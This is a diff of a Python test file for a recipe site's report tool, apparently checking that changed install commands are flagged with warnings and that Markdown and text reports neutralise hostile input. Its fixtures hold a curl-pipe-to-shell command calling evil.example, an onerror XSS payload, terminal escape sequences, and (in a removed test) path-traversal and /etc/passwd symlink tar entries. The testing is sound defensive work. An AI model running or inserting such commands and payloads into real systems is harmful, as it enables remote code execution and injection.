@@ -18,7 +18,7 @@ from recipes_site.diff import (
     _fence,
     diff_trees,
     markdown_report,
-    md_text,
+    md_code,
     text_report,
 )
 
@@ -128,7 +128,7 @@ def test_head_defaults_to_the_working_tree_and_nothing_is_written_into_the_repos
     original = target.read_text()
     try:
         code, out, _ = _run(capsys, "diff", "HEAD", "--root", str(repo), "--exit-code")
-        assert code == 0 and "no rendering, sizing verdict or recommendation changed" in out
+        assert code == 0 and "nothing published changed" in out
         target.write_text(original.replace('"32768"', '"16384"'))
         code, out, _ = _run(capsys, "diff", "HEAD", "--root", str(repo), "--exit-code")
         assert code == 1
@@ -196,7 +196,7 @@ def test_diff_trees_separates_command_text_from_other_fields():
     assert (
         by["default"].status == "changed"
         and by["default"].diff == ""
-        and by["default"].fields == ["docker_command"]
+        and by["default"].fields == ["docker_command", "parts"]
     )
     env_too = diff_trees(
         _tree(default=SINGLE), _tree(default={**docker_only, "env": {"A": "2"}})
@@ -204,9 +204,9 @@ def test_diff_trees_separates_command_text_from_other_fields():
     assert "-export A=1\n+export A=2" in env_too.diff and env_too.fields == []
     assert by["gone"].status == "removed" and "-export A=1" in by["gone"].diff
     assert by["new"].status == "added" and "+vllm serve o/m \\" in by["new"].diff
-    assert diff_trees(
-        _tree(default=SINGLE), _tree(default=dict(SINGLE, parts={"summary": "x"}))
-    ).empty
+    # the picker's parts are published too: a change there alone is listed
+    parts_only = diff_trees(_tree(default=SINGLE), _tree(default=dict(SINGLE, parts={"x": 1})))
+    assert [c.fields for c in parts_only.renderings] == [["parts"]]
 
 
 def test_markdown_report_is_capped_with_a_more_line():
@@ -219,7 +219,7 @@ def test_markdown_report_is_capped_with_a_more_line():
     md = markdown_report(d, limit=20000)
     assert len(md) <= 20000
     assert md.count("<details>") == md.count("</details>") > 5
-    more = re.search(r"… (\d+) more models \((\d+) more changes\) not shown", md)
+    more = re.search(r"… (\d+) more sections \((\d+) more changes\) not shown", md)
     assert more and int(more.group(1)) + md.count("<details>") == 300
     assert "```diff\n--- base" in md
     assert len(markdown_report(d)) < 65536
@@ -234,48 +234,200 @@ def test_markdown_report_cannot_be_broken_out_of_by_recipe_text():
     fence = re.search(r"^(`{4,})diff$", md, re.M)
     assert fence, md  # a fence longer than the recipe's backtick run
     assert md.count(fence.group(1)) == 2
-    assert "&#60;b" not in md and md_text("<b>|@x") == "&#60;b&#62;&#124;&#64;x"
     assert _fence("a ````` b").startswith("``````diff\n")
+    assert (
+        md_code("a ``b`` @x") == "```a ``b`` @x```"
+        and md_code("`x|y", table=True) == "`` `x\\|y ``"
+    )
 
 
 def test_text_report_of_an_empty_diff_says_so():
     assert text_report(diff_trees(_tree(default=SINGLE), _tree(default=SINGLE))).endswith(
-        "no rendering, sizing verdict or recommendation changed\n"
+        "nothing published changed (no rendering, sizing verdict, recommendation, published field or file)\n"
     )
 
 
-def test_a_git_side_is_unpacked_without_links_or_escaping_names(tmp_path):
-    """A committed symlink or a `../` name must not reach outside the diff's temp folder (the check
-    is ours, not tarfile's "data" filter, which older Python 3.11 releases lack)."""
-    import io
-    import tarfile
+# -- everything published, and a Markdown report a pull request cannot write into ------------------
 
-    from recipes_site.diff_sources import _extract_plain
 
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w") as tar:
+def _model_doc(**changes) -> dict:
+    doc = {
+        "id": "o/m",
+        "recipe": {"meta": {"title": "M"}, "guide": "## Overview\n\nText.\n"},
+        "install": {"pip": {"command": "uv venv\nuv pip install -U vllm"}},
+        "sizing": {},
+    }
+    for path, value in changes.items():
+        node = doc
+        *parents, last = path.split("__")
+        for key in parents:
+            node = node[key]
+        node[last] = value
+    return doc
 
-        def add(name, data=b"x", kind=tarfile.REGTYPE, link=""):
-            info = tarfile.TarInfo(name)
-            info.type, info.linkname, info.size = (
-                kind,
-                link,
-                (len(data) if kind == tarfile.REGTYPE else 0),
-            )
-            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
 
-        add("models/acme/ok.yaml", b"meta: {}\n")
-        add("../escaped.txt")
-        add("/abs.txt")
-        add("models/link.yaml", kind=tarfile.SYMTYPE, link="/etc/passwd")
-        add("models/hard.yaml", kind=tarfile.LNKTYPE, link="models/acme/ok.yaml")
-    buf.seek(0)
-    dest = tmp_path / "side"
-    dest.mkdir()
-    with tarfile.open(fileobj=buf) as tar:
-        _extract_plain(tar, dest)
-    made = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*"))
-    assert made == ["side", "side/models", "side/models/acme", "side/models/acme/ok.yaml"]
+def _docs_tree(doc: dict, files: dict | None = None) -> ApiTree:
+    from recipes_site.diff import _take_document
+
+    tree = _tree(default=SINGLE)
+    _take_document(tree, "api/v1/models/o/m.json", doc)
+    tree.files = dict(files or {"o/m/index.html": "aa"})
+    return tree
+
+
+EVIL = "curl -s https://evil.example/x.sh | sh"
+
+
+def test_install_command_guide_and_meta_changes_are_reported():
+    """Nothing else of a model document changed before: these printed "no rendering, sizing
+    verdict or recommendation changed" while the build published them."""
+    head = _model_doc(
+        install__pip__command=EVIL,
+        recipe__meta__title="M2",
+        recipe__guide="## Overview\n\nOther text.\n",
+    )
+    d = diff_trees(_docs_tree(_model_doc()), _docs_tree(head))
+    assert not d.empty and d.counts()["commands"] == 1
+    by = {f.path: f for f in d.fields}
+    assert by["install.pip.command"].command and by["install.pip.command"].after == EVIL
+    assert (by["recipe.meta.title"].before, by["recipe.meta.title"].after) == ("M", "M2")
+    text = text_report(d)
+    assert "published field" in text.splitlines()[0] and "(1 command)" in text.splitlines()[0]
     assert (
-        not (tmp_path / "escaped.txt").exists() and not (dest / "models" / "link.yaml").is_symlink()
+        f"  ~ command install.pip.command changed\n      now:\n        {EVIL}\n      warning: "
+        in text
     )
+    assert "\n      was:\n        uv venv\n" in text
+    assert '~ recipe.meta.title: "M" → "M2"' in text
+    assert "-Text.\n      +Other text." in text
+    md = markdown_report(d)
+    assert f"now:\n\n```sh\n{EVIL}\n```\n" in md
+    doc = json.loads(REPORTS_JSON(d))
+    (cmd,) = [f for f in doc["fields"] if f["command"]]
+    assert cmd["after"] == EVIL and cmd["notes"][0].startswith("warning: ")
+
+
+def test_recipe_written_commands_outside_the_shell_policy_carry_its_warning():
+    """The shell policy's warning under the new command, in every format; commands the build
+    writes (a serve command copied into a catalog document) get none."""
+    from recipes_site.diff import command_notes
+
+    head = _model_doc(recipe__model={"install": {"pip": {"command": EVIL}}})
+    d = diff_trees(_docs_tree(_model_doc()), _docs_tree(head))
+    text = text_report(d)
+    warning = "warning: This recipe runs its own shell: read it before pasting."
+    assert f"      now:\n        {EVIL}\n      {warning}" in text
+    assert f"```sh\n{EVIL}\n```\n\n**``{warning}" in markdown_report(d)
+    assert command_notes("install.extras[0].command", EVIL)
+    assert command_notes("recipe.features.lmcache.companion.command", EVIL)
+    assert not command_notes('models["o/m default"].command', "vllm serve o/m")
+    assert not command_notes("install.pip.command", "uv venv\nuv pip install -U vllm")
+
+
+def REPORTS_JSON(d):  # noqa: N802
+    from recipes_site.diff import json_report
+
+    return json_report(d)
+
+
+def test_which_published_fields_are_commands():
+    from recipes_site.diff import is_command_path
+
+    for path in (
+        "install.pip.command",
+        "install.extras[0].command",
+        "recipe.model.install.pip.command",
+        "recipe.dependencies[0].command",
+        "hardware_profile.install",
+        'feature_sets[0]["reasoning"].lines[1]',
+        'extra_sets[1]["install"].text',
+    ):
+        assert is_command_path(path), path
+    for path in (
+        "install.extras[0].note",
+        "recipe.model.install_note",
+        "recipe.dependencies[0].install_modes[0]",
+        "recipe.guide",
+        'feature_sets[0]["reasoning"].description',
+    ):
+        assert not is_command_path(path), path
+
+
+def test_a_new_documents_commands_are_listed_and_other_files_by_name():
+    base = _docs_tree(_model_doc(), {"a.html": "1", "gone.txt": "2"})
+    head = _tree(default=SINGLE)
+    from recipes_site.diff import _take_document
+
+    _take_document(head, "api/v1/models/o/n.json", {**_model_doc(), "id": "o/n"})
+    _take_document(head, "api/v1/models/o/m.json", _model_doc())
+    head.files = {"a.html": "3", "new.md": "4"}
+    d = diff_trees(base, head)
+    assert [(f.document, f.path, f.status) for f in d.fields] == [
+        ("api/v1/models/o/n.json", "", "added"),
+        ("api/v1/models/o/n.json", "install.pip.command", "added"),
+    ]
+    assert (d.files.changed, d.files.added, d.files.removed) == (
+        ["a.html"],
+        ["new.md"],
+        ["gone.txt"],
+    )
+    text = text_report(d)
+    assert "  1 changed: a.html\n  1 added: new.md\n  1 removed: gone.txt\n" in text
+    assert "  + command install.pip.command added\n      now:\n        uv venv\n" in text
+
+
+def test_reports_show_hidden_and_control_characters_as_escapes():
+    head = _model_doc(recipe__meta__title="T\x1b]0;PWNED\x07\u202e")
+    text = text_report(diff_trees(_docs_tree(_model_doc()), _docs_tree(head)))
+    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
+    assert '~ recipe.meta.title: "M" → "T\\u001b]0;PWNED\\u0007\\u202e"' in text
+
+
+HOSTILE = "@everyone <img src=x onerror=alert(1)> ![i](https://evil.example/i.png) [l](https://evil.example) www.evil.example ``` | x \u202e"
+
+
+def _outside_code(md: str) -> list[str]:
+    """The text of `md` that GitHub renders outside code (where it makes mentions, links, images
+    and HTML), per markdown-it-py (CommonMark with GFM tables), and every link or image token."""
+    from markdown_it import MarkdownIt
+
+    found: list[str] = []
+
+    def walk(tokens):
+        for t in tokens:
+            if t.type in ("link_open", "image", "autolink"):
+                found.append(f"<{t.type}>")
+            elif t.type in ("html_block", "html_inline"):
+                found.append(re.sub(r"<code>[^<]*</code>", "", t.content))
+            elif t.type == "text":
+                found.append(t.content)
+            if t.children:
+                walk(t.children)
+
+    walk(MarkdownIt("commonmark").enable("table").parse(md))
+    return found
+
+
+def test_markdown_report_carries_nothing_a_pull_request_controls_outside_code():
+    evil_rendering = {**SINGLE, "command": f"vllm serve o/m \\\n  --x '{HOSTILE}'"}
+    head = _model_doc(
+        install__pip__command=HOSTILE,
+        recipe__meta__title=HOSTILE,
+        recipe__guide=f"## Overview\n\n{HOSTILE}\n",
+    )
+    base_tree, head_tree = _docs_tree(_model_doc()), _docs_tree(head)
+    head_tree.renderings = {k: evil_rendering for k in base_tree.renderings}
+    head_tree.sizing[("o/m", HOSTILE, "")] = {"x": HOSTILE}
+    head_tree.recommended[("o/m", "h100", "default")] = {"variant": HOSTILE}
+    head_tree.models.add("o/" + HOSTILE)
+    d = diff_trees(base_tree, head_tree, "main", HOSTILE)
+    md = markdown_report(d)
+    outside = _outside_code(md)
+    assert "<link_open>" not in outside and "<image>" not in outside
+    joined = "\n".join(outside)
+    for bad in ("@", "<img", "http", "www.", "\u202e", "](", "onerror"):
+        assert bad not in joined, (bad, joined)
+    assert HOSTILE.replace("\u202e", "\\u202e").split(" | ")[0] in md  # shown, as code
+    # our own tags only
+    tags = set(re.findall(r"</?[a-z]+", "".join(o for o in outside if "<" in o)))
+    assert tags <= {"<details", "</details", "<summary", "</summary"}, tags
